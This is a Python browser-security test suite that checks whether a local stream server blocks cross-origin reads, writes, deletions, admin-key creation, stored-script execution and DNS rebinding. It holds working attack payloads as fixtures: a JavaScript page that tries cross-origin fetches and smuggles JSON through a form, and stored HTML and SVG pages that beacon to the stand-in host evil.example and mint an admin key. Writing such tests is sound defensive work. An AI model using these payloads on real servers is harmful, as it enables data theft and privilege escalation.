"""Pages of strangers against a server without keys, in a real browser."""

import json
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx2
import pytest

from tests.browser.browsing import CHROMIUM, MISSING, Browser, Site
from tests.support.keys import BOOTSTRAP, bearer
from tests.support.process import ServerProcess

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=MISSING)

TEXT = {"Content-Type": "text/plain"}
EVIL = "evil.example"
# Everything that a page can do to another origin. What it finds out, it reports to its own.
ATTACK = """<!doctype html><title>attack</title><body><script type="module">
const given = new URLSearchParams(location.search);
const base = given.get('at'), key = given.get('key');
const found = {};
const headers = key ? {'x-api-key': key} : {};
async function attempt(name, act) {
  try { found[name] = await act(); } catch (error) { found[name] = 'failed: ' + error.name; }
}
const text = async (path, options = {}) => {
  const answer = await fetch(base + path, options);
  return answer.status + ' ' + (await answer.text());
};
const plain = (body, more = {}) =>
  ({method: 'POST', body, ...more, headers: {'Content-Type': 'text/plain', ...more.headers}});
const element = (name, attributes) => new Promise(resolve => {
  const made = Object.assign(document.createElement(name), attributes);
  made.onload = () => {
    let inside = 'nothing';
    try { inside = made.contentDocument ? made.contentDocument.body.textContent : 'nothing'; } catch { }
    resolve('loaded ' + inside);
  };
  made.onerror = () => resolve('failed');
  document.body.append(made);
});
const form = (action, enctype) => new Promise(resolve => {
  const frame = Object.assign(document.createElement('iframe'), {name: 'f' + Math.random()});
  const made = document.createElement('form');
  Object.assign(made, {method: 'POST', action, enctype, target: frame.name});
  const name = '{"principal":"evil","role":"admin","a":"';
  made.append(Object.assign(document.createElement('input'), {name, value: '"}'}));
  document.body.append(frame, made);
  frame.onload = () => resolve('sent');
  made.submit();
});
await attempt('read', () => text('/v1/stream/secret', {headers}));
await attempt('list', () => text('/v1/sessions', {headers}));
await attempt('read blindly', () => text('/v1/stream/secret', {mode: 'no-cors'}));
await attempt('append', () => text('/v1/stream/secret', plain('evil', {headers})));
await attempt('append blindly', () => text('/v1/stream/secret', plain('evil', {mode: 'no-cors'})));
await attempt('beacon', async () => navigator.sendBeacon(base + '/v1/stream/secret', 'evil'));
await attempt('create', () => text('/v1/stream/new', {method: 'PUT', headers}));
await attempt('delete', () => text('/v1/stream/doomed', {method: 'DELETE', headers}));
await attempt('metrics', () => text('/metrics', {headers}));
await attempt('key', () => text('/v1/keys', {method: 'POST', headers: {...headers, 'Content-Type':
  'application/json'}, body: '{"principal":"evil","role":"admin"}'}));
const wanted = '{"principal":"evil","role":"admin"}';
await attempt('key blindly', () => text('/v1/keys', plain(wanted, {mode: 'no-cors'})));
await attempt('form', () => form(base + '/v1/keys', 'text/plain'));
// A form that is let in is answered without a page, which no event tells.
if (!given.get('let_in')) {
  await attempt('form to a stream', () => form(base + '/v1/stream/secret', 'text/plain'));
}
await attempt('follow', () => new Promise(resolve => {
  const source = new EventSource(base + '/v1/stream/secret?offset=-1&live=sse');
  source.addEventListener('data', event => resolve('read ' + event.data));
  source.onerror = () => { source.close(); resolve('failed'); };
}));
await attempt('frame', () => element('iframe', {src: base + '/v1/stream/page'}));
await attempt('frame of docs', () => element('iframe', {src: base + '/docs'}));
await attempt('script', () => element('script', {src: base + '/v1/stream/script'}));
await attempt('image', () => element('img', {src: base + '/v1/artifacts/' + given.get('picture')}));
found.script_ran = globalThis.scriptRan === true;
await fetch('/report', {method: 'POST', body: JSON.stringify(found)});
</script>"""
OPENED = """<!doctype html><script>window.open(new URLSearchParams(location.search).get('at'));
setTimeout(() => location = new URLSearchParams(location.search).get('at'), 100)</script>"""
# A page that was stored in the server and makes a key, and tells the stranger's site that it could run.
STORED = """<!doctype html><title>stored</title><img src="http://evil.example:{port}/report?picture">
<style>@import "http://evil.example:{port}/report?style";</style>
<script>
new Image().src = 'http://evil.example:{port}/report?ran';
document.title = 'ran';
fetch('/v1/keys', {{method: 'POST', headers: {{'Content-Type': 'application/json'}},
  body: '{{"principal":"evil","role":"admin"}}'}});
</script><p>the end"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg"><script>
new Image().src = 'http://evil.example:{port}/report?svg';
document.documentElement.setAttribute('id', 'ran');</script></svg>"""
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000a49444154789c63000100000500010d0a2db40000000049454e44ae426082"
)


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as running:
        running.pages["/attack"] = ("text/html", ATTACK)
        running.pages["/opened"] = ("text/html", OPENED)
        yield running


@pytest.fixture
def browser(tmp_path: Path) -> Browser:
    return Browser(tmp_path, EVIL, "rebound.example")


def fill(server: ServerProcess, site: Site, **headers: str) -> str:
    """Store what a stranger wants, and return the name of a picture."""
    with httpx2.Client(base_url=server.url, headers=headers, timeout=60) as client:
        page = STORED.format(port=site.port)
        for name, kind, content in (
            ("secret", "text/plain", "the secret"),
            ("doomed", "text/plain", "still here"),
            ("page", "text/html", page),
            ("svg", "image/svg+xml", SVG.format(port=site.port)),
            ("script", "text/javascript", "globalThis.scriptRan = true"),
        ):
            made = client.put(f"/v1/stream/{name}", headers={"Content-Type": kind}, content=content)
            assert made.status_code == 201
        for data, kind in ((page.encode(), "text/html"), (PNG, "image/png")):
            digest = sha256(data).hexdigest()
            stored = client.put(f"/v1/artifacts/{digest}", headers={"Content-Type": kind}, content=data)
            assert stored.status_code == 201
    return sha256(PNG).hexdigest()


def attack(
    browser: Browser, site: Site, origin: str, server: ServerProcess, picture: str, **more: str
) -> Any:
    """Let a page of an origin try everything, and return what it found out."""
    given = urlencode({"at": server.url, "picture": picture, **more})
    with browser.visiting(f"{origin}:{site.port}/attack?{given}"):
        return site.report()


def untouched(server: ServerProcess, **headers: str) -> None:
    """Assert that the server has what it had, and no key."""
    with httpx2.Client(base_url=server.url, headers=headers, timeout=60) as client:
        assert client.get("/v1/stream/secret").text == "the secret"
        assert client.get("/v1/stream/doomed").text == "still here"
        assert client.get("/v1/stream/new").status_code == 404
        assert client.get("/v1/keys").json()["data"] == []


@pytest.mark.parametrize("origin", ["http://127.0.0.1", "http://localhost", f"http://{EVIL}"])
def test_a_foreign_page_reads_writes_and_deletes_nothing(
    tmp_path: Path, browser: Browser, site: Site, origin: str
) -> None:
    with ServerProcess(tmp_path / "data") as server:
        found = attack(browser, site, origin, server, fill(server, site))
        assert "the secret" not in json.dumps(found)
        for name in ("read", "list", "append", "create", "delete", "metrics", "key"):
            assert found[name] == "failed: TypeError", (name, found)
        assert found["follow"] == "failed"
        for name in ("read blindly", "append blindly", "key blindly"):
            assert found[name] in ("0 ", "failed: TypeError"), (name, found)
        assert found["frame"] in ("loaded nothing", "failed")
        assert (found["script"], found["script_ran"], found["image"]) == ("failed", False, "failed")
        untouched(server)


def test_an_allowed_origin_may_do_what_the_user_may(tmp_path: Path, browser: Browser, site: Site) -> None:
    """The same page, so that it is known to be able to."""
    origin = f"http://{EVIL}"
    with ServerProcess(tmp_path / "data", "--allowed-origins", f"{origin}:{site.port}") as server:
        found = attack(browser, site, origin, server, fill(server, site), let_in="yes")
        assert found["read"] == "200 the secret"
        assert found["list"].startswith("200 ")
        assert found["append"] == "204 "
        assert found["create"] == "201 "
        assert found["delete"] == "204 "
        assert found["follow"].startswith("read the secret")
        for name in ("key", "metrics"):
            assert found[name] == "failed: TypeError", (name, found)
        with httpx2.Client(base_url=server.url) as client:
            assert client.get("/v1/stream/doomed").status_code == 404
            assert client.get("/v1/keys").json()["data"] == []


def test_with_a_key_in_a_header_a_page_of_any_origin_works(
    tmp_path: Path, browser: Browser, site: Site
) -> None:
    with ServerProcess(tmp_path / "data", environment={"DURABLE_SESSIONS_API_KEY": BOOTSTRAP}) as server:
        picture = fill(server, site, **bearer(BOOTSTRAP))
        without = attack(browser, site, f"http://{EVIL}", server, picture)
        assert without["read"] == without["append"] == without["delete"] == "failed: TypeError"
        untouched(server, **bearer(BOOTSTRAP))
        found = attack(browser, site, f"http://{EVIL}", server, picture, key=BOOTSTRAP)
        assert found["read"] == "200 the secret"
        assert (found["append"], found["create"], found["delete"]) == ("204 ", "201 ", "204 ")
        assert found["follow"] == "failed", "an EventSource cannot send a key"
        for name in ("key", "metrics"):
            assert found[name] == "failed: TypeError", (name, found)


@pytest.mark.parametrize("what", ["page", "svg", "artifact"])
def test_what_was_stored_does_not_run(tmp_path: Path, browser: Browser, site: Site, what: str) -> None:
    with ServerProcess(tmp_path / "data") as server:
        fill(server, site)
        digest = sha256(STORED.format(port=site.port).encode()).hexdigest()
        path = f"/v1/artifacts/{digest}" if what == "artifact" else f"/v1/stream/{what}"
        seen = browser.shown(server.url + path)
        assert ("the end" in seen) if what != "svg" else ("<svg" in seen), seen
        assert "<title>ran" not in seen
        assert 'id="ran"' not in seen
        assert site.reports.empty(), "and asked nobody else for anything"
        untouched(server)


@pytest.mark.parametrize("what", ["page", "svg"])
def test_the_same_runs_on_a_server_without_the_policy(browser: Browser, site: Site, what: str) -> None:
    stored = {"page": ("text/html", STORED), "svg": ("image/svg+xml", SVG)}
    site.pages["/" + what] = (stored[what][0], stored[what][1].format(port=site.port))
    seen = browser.shown(f"http://127.0.0.1:{site.port}/{what}")
    assert "<title>ran" in seen or 'id="ran"' in seen


def test_a_foreign_page_cannot_send_the_browser_to_what_it_stored(
    tmp_path: Path, browser: Browser, site: Site
) -> None:
    with ServerProcess(tmp_path / "data") as server:
        fill(server, site)
        opener = f"http://{EVIL}:{site.port}/opened?at="
        seen = browser.shown(f"{opener}{server.url}/v1/stream/page")
        assert "origin_not_allowed" in seen
        assert "the end" not in seen
        assert site.reports.empty()
        assert "Documentation" in browser.shown(f"{opener}{server.url}/"), "a link to a page of ours works"
        untouched(server)


def test_a_rebound_name_is_refused(tmp_path: Path, browser: Browser, site: Site) -> None:
    with ServerProcess(tmp_path / "data") as server:
        fill(server, site)
        for path in ("/v1/stream/secret", "/v1/stream/page", "/", "/metrics", "/docs"):
            seen = browser.shown(f"http://rebound.example:{server.port}{path}")
            assert "host_not_allowed" in seen, path
            assert "the secret" not in seen
        assert "the secret" in browser.shown(server.url + "/v1/stream/secret"), "its own name is served"
        untouched(server)


def test_our_own_pages_work(tmp_path: Path, browser: Browser) -> None:
    with ServerProcess(tmp_path / "data") as server:
        for path, text in (
            ("/", "Documentation"),
            ("/docs", "<h1"),
            ("/docs/api", "createKey"),
            ("/openapi.json", "3.1"),
        ):
            assert text in browser.shown(server.url + path), path
